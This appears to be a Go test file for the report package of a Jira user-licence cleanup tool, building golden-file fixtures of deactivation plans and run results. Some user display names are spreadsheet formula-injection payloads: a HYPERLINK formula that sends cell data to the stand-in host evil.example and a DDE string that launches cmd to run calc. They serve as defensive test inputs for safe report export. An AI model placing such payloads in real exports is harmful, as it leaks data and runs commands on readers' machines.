package report_test

import (
	"errors"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/seatwarden/seatwarden/actions"
	"github.com/seatwarden/seatwarden/jira"
	"github.com/seatwarden/seatwarden/report"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/golden")

// golden compares got with testdata/golden/<name>.golden, or rewrites it
// with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name+".golden")
	if *update {
		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
		require.NoError(t, os.WriteFile(path, got, 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "run go test ./report -update to create it")
	assert.Equal(t, string(want), string(got))
}

var t0 = time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)

// fixture is a run of two policies on a DC site with every outcome,
// and users whose names try formula injection.
func fixture() (*report.Report, *actions.Plan) {
	alice := actions.Identity{Key: "JIRAUSER10001", Name: "alice", Email: "alice@example.com", DisplayName: "Alice Liddell"}
	bob := actions.Identity{Key: "JIRAUSER10002", Name: "bob", Email: "bob@example.com", DisplayName: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"}
	carol := actions.Identity{Key: "JIRAUSER10003", Name: "carol", Email: "carol@example.org", DisplayName: "@SUM(1+1)*cmd|' /C calc'!A0"}
	plan := &actions.Plan{
		ID: "plan-1", Created: t0, Flavor: jira.DataCenter, Site: "https://jira.example.com",
		Policies: []actions.PolicyRef{{Name: "inactive-90-days", Hash: "h1"}, {Name: "contractors", Hash: "h2"}},
		Users: []actions.UserPlan{
			{User: alice, Policies: []string{"inactive-90-days"}, Steps: []actions.Step{{Kind: actions.KindRemoveGroup, Group: "jira-software-users"}, {Kind: actions.KindDeactivate}},
				Why: []actions.Reason{{Policy: "inactive-90-days", Explanation: "daysSinceLastLogin > 90: 214 > 90 ✓"}}},
			{User: bob, Policies: []string{"contractors", "inactive-90-days"}, Steps: []actions.Step{{Kind: actions.KindDeactivate}},
				NoOps: []actions.Step{{Kind: actions.KindRemoveGroup, Group: "contractors", NoOp: "not a member"}},
				Why:   []actions.Reason{{Policy: "contractors", Explanation: "inGroup(\"contractors\") ✓"}}},
			{User: carol, Policies: []string{"inactive-90-days"}, Steps: []actions.Step{{Kind: actions.KindRevokeLicence, Licence: "jira-software"}}},
		},
		Exempt: []actions.Exempted{{User: actions.Identity{Name: "admin", DisplayName: "-2+3"}, Policy: "inactive-90-days", Reason: "protected: jira-administrators"}},
	}
	run := &actions.Run{ID: "run-1", PlanID: "plan-1", Started: t0, Finished: t0.Add(90 * time.Second),
		Results: []actions.Result{
			{StepID: "JIRAUSER10001#0", User: alice, Step: plan.Users[0].Steps[0], Outcome: actions.Applied},
			{StepID: "JIRAUSER10001#1", User: alice, Step: plan.Users[0].Steps[1], Outcome: actions.Applied},
			{StepID: "JIRAUSER10002#0", User: bob, Step: plan.Users[1].Steps[0], Outcome: actions.Stale, Message: "logged in since the plan"},
			{StepID: "JIRAUSER10003#0", User: carol, Step: plan.Users[2].Steps[0], Outcome: actions.Failed,
				Err: errors.New("jira: PUT /rest/api/2/user: 403: read-only directory"), Error: "jira: PUT /rest/api/2/user: 403: read-only directory"},
		}}
	run.Counts = map[actions.Outcome]int{actions.Applied: 2, actions.Stale: 1, actions.Failed: 1}
	r := report.FromRun(run, plan)
	r.ApprovalIssue = "OPS-7"
	return r, plan
}

// users is a small site: the fixture's users and some more.
func users() []jira.User {
	ll := func(days int) jira.LastLogin { return jira.LoggedInAt(t0.AddDate(0, 0, -days)) }
	n := 7
	return []jira.User{
		{Key: "JIRAUSER10001", Name: "alice", Email: "alice@example.com", DisplayName: "Alice Liddell", Active: true,
			Licences: []string{"jira-software"}, Created: t0.AddDate(-3, 0, 0), LastLogin: ll(214), LoginCount: &n},
		{Key: "JIRAUSER10002", Name: "bob", Email: "bob@example.com", DisplayName: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", Active: true,
			Licences: []string{"jira-software", "jira-servicedesk"}, Groups: []string{"contractors"}, Created: t0.AddDate(-1, 0, 0), LastLogin: ll(3)},
		{Key: "JIRAUSER10003", Name: "carol", Email: "carol@example.org", DisplayName: "@SUM(1+1)*cmd|' /C calc'!A0", Active: true,
			Licences: []string{"jira-software"}, Created: t0.AddDate(0, -2, 0), LastLogin: jira.NeverLoggedIn()},
		{Key: "JIRAUSER10004", Name: "dave", Email: "dave@example.com", DisplayName: "Dave", Active: false,
			Created: t0.AddDate(-2, 0, 0), LastLogin: ll(400)},
		{Key: "JIRAUSER10005", Name: "erin", Email: "erin@example.com", DisplayName: "Erin", Active: true,
			Licences: []string{"jira-software"}, Created: t0.AddDate(-2, 0, 0), LastLogin: ll(40)},
		{Key: "JIRAUSER10006", Name: "bot", DisplayName: "Automation", Active: true, AccountType: jira.AccountApp},
	}
}
